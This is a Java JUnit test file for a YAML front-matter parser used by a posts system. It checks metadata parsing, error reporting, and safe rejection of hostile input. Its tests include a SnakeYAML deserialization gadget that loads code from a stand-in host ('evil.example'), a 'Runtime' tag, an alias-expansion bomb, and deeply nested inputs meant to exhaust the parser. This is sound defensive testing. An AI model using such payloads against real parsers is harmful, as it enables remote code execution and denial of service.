package unmask.posts;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.time.Duration;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class FrontMatterTest {
    private static final String MASK = """
            ---
            title: The Mask
            authors: [The class of 2026, Ana Reyes]
            published: 2026-11-20
            teaser: "A spy group: what it did, and to whom."
            audience: web
            draft: yes
            was: [careto, mask-2014]
            references:            # CSL-YAML
              - id: obrien2014
                type: article-newspaper
                # as the class cited it
                issued: 2014-02-10

              - {id: b, type: book, issue: 1.10}
            ---

            Text with [@obrien2014].
            """;

    @Test
    void everyKeyIsRead() {
        var mask = read(MASK);
        assertThat(mask.title()).isEqualTo("The Mask");
        assertThat(mask.authors()).containsExactly("The class of 2026", "Ana Reyes");
        assertThat(mask.published()).contains(LocalDate.of(2026, 11, 20));
        assertThat(mask.teaser()).contains("A spy group: what it did, and to whom.");
        assertThat(mask.audience()).contains("web");
        assertThat(mask.draft()).isTrue();
        assertThat(mask.was()).containsExactly("careto", "mask-2014");
        assertThat(mask.references()).containsExactly(
                Map.of("id", "obrien2014", "type", "article-newspaper", "issued", "2014-02-10"),
                Map.of("id", "b", "type", "book", "issue", "1.10"));
        assertThat(mask.body()).isEqualTo("\nText with [@obrien2014].\n");
        assertThat(mask.bodyLine()).isEqualTo(17);
        assertThat(MASK.lines().toList().get(mask.bodyLine())).startsWith("Text with");
    }

    @Test
    void theEditorGetsTheReferencesAsTheirAuthorWroteThem() {
        assertThat(read(MASK).referencesText()).isEqualTo("""
                - id: obrien2014
                  type: article-newspaper
                  # as the class cited it
                  issued: 2014-02-10

                - {id: b, type: book, issue: 1.10}""");
        assertThat(read("---\ntitle: T\nreferences: [{id: b, type: book}]\nteaser:\n---\n").referencesText()).isEqualTo("[{id: b, type: book}]");
        assertThat(read("---\ntitle: T\n---\n").referencesText()).isEmpty();
    }

    @Test
    void oneAuthorNeedsNoListAndEmptyKeysCountAsAbsent() {
        var post = read("---\ntitle: 1984\nauthors: Ana Reyes\nteaser:\naudience: ~\ndraft: false\n---\n");
        assertThat(post.title()).isEqualTo("1984");
        assertThat(post.authors()).containsExactly("Ana Reyes");
        assertThat(post.teaser()).isEmpty();
        assertThat(post.audience()).isEmpty();
        assertThat(post.draft()).isFalse();
    }

    @Test
    void aHeaderMayComeFromAnyEditor() {
        var post = read("\uFEFF\r\n---  \r\ntitle: The Mask\r\n--- \r\nText\r\n");
        assertThat(post.title()).isEqualTo("The Mask");
        assertThat(post.body()).isEqualTo("Text\n");
        assertThat(post.bodyLine()).isEqualTo(5);
    }

    @Test
    void withoutAHeaderTheFirstHeadingIsTheTitleAndLinesKeepTheirNumbers() {
        var post = read("Above\n```\n# not this\n```\n # The *Mask* ##\nBelow\n# Second\n");
        assertThat(post.title()).isEqualTo("The *Mask*");
        assertThat(post.body()).isEqualTo("Above\n```\n# not this\n```\n\nBelow\n# Second\n");
        assertThat(post.bodyLine()).isEqualTo(1);
    }

    static List<Arguments> mistakes() {
        return List.of(
                arguments("", "1 title.nowhere", true),
                arguments("No heading, no header", "1 title.nowhere", true),
                arguments("# " + "x".repeat(201), "1 text.long [title, 200]", true),
                arguments("---\ntitle: T\nText", "1 header.open", true),
                arguments("---", "1 header.open", true),
                arguments("---\n---\nText", "1 title.missing", true),
                arguments("---\nteaser: T\n---\n", "1 title.missing", true),
                arguments("---\nteaser: T\ntitle: ' '\n---\n", "3 title.missing", true),
                arguments("---\ntitle: " + "x".repeat(201) + "\n---\n", "2 text.long [title, 200]", true),
                arguments("---\n- title\n---\n", "2 header.keys", true),
                arguments("---\ntitle: T\nteaser: a: b\n---\n", "3 yaml [mapping values are not allowed here]", true),
                arguments("---\ntitle: \"T\n---\n", "2 yaml [found unexpected end of stream]", true),
                arguments("---\ntitle: T\n? [a, b]\n: c\n---\n", "3 yaml.key", true),
                arguments("---\ntitle: T\ntitle: U\n---\n", "3 key.twice [title]", true),
                arguments("---\ntitle: T\n...\n--- {teaser: U}\n---\n", "4 yaml.many", true),
                arguments("---\ntitle: T\naudiance: course\n---\n", "3 key.meant [audiance, audience]", true),
                arguments("---\ntitle: T\nDraft: true\n---\n", "3 key.meant [Draft, draft]", true),
                arguments("---\ntitle: T\nlayout: wide\n---\n", "3 key.unknown [layout]", false),
                arguments("---\ntitle: [T]\n---\n", "2 type.text [title]", true),
                arguments("---\ntitle: T\nauthors: [{name: A}]\n---\n", "3 type.texts [authors]", true),
                arguments("---\ntitle: T\nauthors: [" + "A,".repeat(31) + "]\n---\n", "3 list.long [authors, 30]", true),
                arguments("---\ntitle: T\npublished: [2026]\n---\n", "3 type.date [published]", true),
                arguments("---\ntitle: T\npublished: 2026-02-30\n---\n", "3 date [published, 2026-02-30]", true),
                arguments("---\ntitle: T\npublished: tomorrow\n---\n", "3 date [published, tomorrow]", true),
                arguments("---\ntitle: T\ndraft: maybe\n---\n", "3 type.yes [draft]", true),
                arguments("---\ntitle: T\naudience: everyone\n---\n", "3 choice [audience, everyone, course, web]", true),
                arguments("---\ntitle: T\nreferences: none\n---\n", "3 type.references [references]", true),
                arguments(references("- obrien2014"), "3 reference.map [obrien2014]", false),
                arguments(references("- type: book"), "4 reference.id", false),
                arguments(references("- id: a b\n    type: book"), "4 reference.id.letters [a b]", false),
                arguments(references("- id: a\n    title: T"), "4 reference.typeless [a]", false),
                arguments(references("- id: a\n    type: webpgae"), "5 reference.type.meant [a, webpgae, webpage]", false),
                arguments(references("- id: a\n    type: newspaper"), "5 reference.type.meant [a, newspaper, article-newspaper]", false),
                arguments(references("- id: a\n    type: legal-case"), "5 reference.type.meant [a, legal-case, legal_case]", false),
                arguments(references("- id: a\n    type: tablet"), "5 reference.type.unknown [a, tablet]", false),
                arguments(references("- id: a\n    type: book\n  - id: a\n    type: book"), "6 reference.twice [a]", false),
                arguments(references("- id: a\n    type: book\n    tittle: T"), "6 reference.key.meant [a, tittle, title]", false),
                arguments(references("- id: a\n    type: book\n    issued: 2014-02-30"), "6 reference.date [a, issued, 2014-02-30]", false),
                arguments(references("- id: a\n    type: book\n    author: {given: A}"), "6 reference.names [a, author]", false),
                arguments(references("- id: a\n    type: book\n    title: [T]"), "6 reference.text [a, title, 1000]", false));
    }

    private static String references(String list) {
        return "---\ntitle: T\nreferences:\n  " + list + "\n---\n";
    }

    @ParameterizedTest
    @MethodSource("mistakes")
    void aMistakeIsNamedWithItsLine(String document, String problem, boolean isRefused) {
        var parsed = FrontMatter.parse(document);
        assertThat(parsed.problems()).extracting(FrontMatterTest::shown).containsExactly(problem);
        assertThat(parsed.document().isEmpty()).isEqualTo(isRefused);
    }

    @Test
    void allMistakesAreToldAtOnceInTheOrderOfTheFile() {
        var parsed = FrontMatter.parse("---\nreferences: [{id: a}]\npublished: soon\nauthers: A\nlayout: wide\ndraft: [x]\n---\n");
        assertThat(parsed.problems()).extracting(FrontMatterTest::shown).containsExactly("1 title.missing", "2 reference.typeless [a]",
                "3 date [published, soon]", "4 key.meant [authers, authors]", "5 key.unknown [layout]", "6 type.yes [draft]");
    }

    @Test
    void aBadReferenceCostsOnlyItself() {
        var post = FrontMatter.parse(references("- id: a\n    type: tablet\n  - id: b\n    type: book")).document().orElseThrow();
        assertThat(post.references()).extracting(map -> map.get("id")).containsExactly("b");
    }

    @ParameterizedTest
    @ValueSource(strings = {"a: &a [x, x]\nb: &b [*a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b]\ntitle: *c", "title: *undefined"})
    void aliasesThatMultiplyAreRefused(String yaml) {
        assertThat(problemsOf(yaml)).containsExactly("2 yaml.alias");
    }

    @ParameterizedTest
    @ValueSource(strings = {"!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://evil.example/\"]]", "title: !!java.lang.Runtime {}",
        "title: !local T", "title: !!binary aGk="})
    void tagsAreRefused(String yaml) {
        assertThat(problemsOf(yaml)).containsExactly("2 yaml.tag");
    }

    @Test
    void deepOrHugeHeadersAreRefusedQuickly() {
        var hostile = List.of("title: " + "[".repeat(90_000), "[".repeat(45_000) + "]".repeat(45_000), "{a: ".repeat(20_000),
                "- ".repeat(40_000), "? ".repeat(40_000), IntStream.range(0, 300).mapToObj(i -> " ".repeat(i) + "k:\n").reduce("", String::concat));
        for (var yaml : hostile) {
            assertTimeout(Duration.ofSeconds(2), () -> assertThat(problemsOf(yaml)).isNotEmpty());
        }
        assertThat(problemsOf("title: " + "x".repeat(100_000))).containsExactly("2 header.long [100000]");
        assertTimeout(Duration.ofSeconds(2), () -> FrontMatter.parse("---\n".repeat(200_000)));
        assertTimeout(Duration.ofSeconds(2), () -> FrontMatter.parse("# ".repeat(200_000)));
    }

    @Test
    void whatTheBrowserWritesIsReadBackUnchanged() {
        var random = new Random(2014);
        for (var round = 0; round < 2_000; round++) {
            var title = "T" + text(random, 40);
            var authors = IntStream.range(0, random.nextInt(4)).mapToObj(i -> text(random, 20) + "a").toList();
            var published = random.nextBoolean() ? Optional.of(LocalDate.of(1990, 1, 1).plusDays(random.nextInt(20_000))) : Optional.<LocalDate>empty();
            var teaser = Optional.of(text(random, 60) + "!").filter(any -> random.nextBoolean());
            var ids = IntStream.range(0, random.nextInt(3)).mapToObj(i -> "id" + i).toList();
            var references = String.join("\n", ids.stream().map(id -> "- id: " + id + "\n  # note\n  type: book\n  title: |\n    x\n    ---\n    y").toList());
            var body = text(random, 200);
            var document = FrontMatter.write(title, authors, published, teaser, references, body);
            var post = read(document);
            assertThat(post.title()).as(document).isEqualTo(title);
            assertThat(post.authors()).as(document).isEqualTo(authors);
            assertThat(post.published()).isEqualTo(published);
            assertThat(post.teaser()).as(document).isEqualTo(teaser);
            assertThat(post.references()).extracting(map -> map.get("id")).isEqualTo(ids);
            assertThat(post.referencesText()).isEqualTo(references);
            assertThat(post.body()).as(document).isEqualTo(body);
            assertThat(document.split("\n", -1)[post.bodyLine() - 1]).isEqualTo(body.split("\n", -1)[0]);
        }
    }

    @Test
    void plainTitlesAreWrittenPlainly() {
        assertThat(FrontMatter.write("The Mask", List.of("The class of 2026", "Reyes, Ana"), Optional.of(LocalDate.of(2026, 11, 20)),
                Optional.of("Who: they"), "", "Text\n")).isEqualTo("""
                ---
                title: The Mask
                authors: [The class of 2026, "Reyes, Ana"]
                published: 2026-11-20
                teaser: "Who: they"
                ---
                Text
                """);
    }

    @ParameterizedTest
    @ValueSource(strings = {"audience: web", "- id: a\n  type: book\n---\naudience: web",
        "\"", "- [", "]\naudience: web", "- id: a\naudience: web", "\t- x", "x\r---\raudience: web"})
    void referencesTypedInTheBrowserCannotReachTheOtherKeys(String references) {
        var parsed = FrontMatter.parse(FrontMatter.write("T", List.of(), Optional.empty(), Optional.empty(), references, "Text"));
        assertThat(parsed.problems()).isNotEmpty();
        assertThat(parsed.document().flatMap(FrontMatter::audience)).isEmpty();
    }

    private static String text(Random random, int longest) {
        var pieces = List.of("\"", "'", ":", ": ", " #", "---", "\n---\n", "\n", "\\", "\t", "{", "}", "[", "]", ",", "&", "*", "!", "|", ">", "%", "@",
                "`", "null", "true", "1", "~", " ",
                "é", "’", "😀", "\u0085", "\u2028", "\uFEFF", "\u0000", "\u001b", "\u202E", "\uFFFF", "word", "T", "-", "?");
        var text = new StringBuilder();
        for (var left = random.nextInt(longest / 3); left > 0; left--) {
            text.append(pieces.get(random.nextInt(pieces.size())));
        }
        return text.toString();
    }

    private static FrontMatter read(String document) {
        var parsed = FrontMatter.parse(document);
        assertThat(parsed.problems()).as(document).isEmpty();
        return parsed.document().orElseThrow();
    }

    private static List<String> problemsOf(String yaml) {
        return FrontMatter.parse("---\n" + yaml + "\n---\n").problems().stream().map(FrontMatterTest::shown).toList();
    }

    static String shown(Problem problem) {
        return problem.line() + " " + problem.messageKey().substring("posts.file.".length()) + (problem.args().isEmpty() ? "" : " " + problem.args());
    }
}
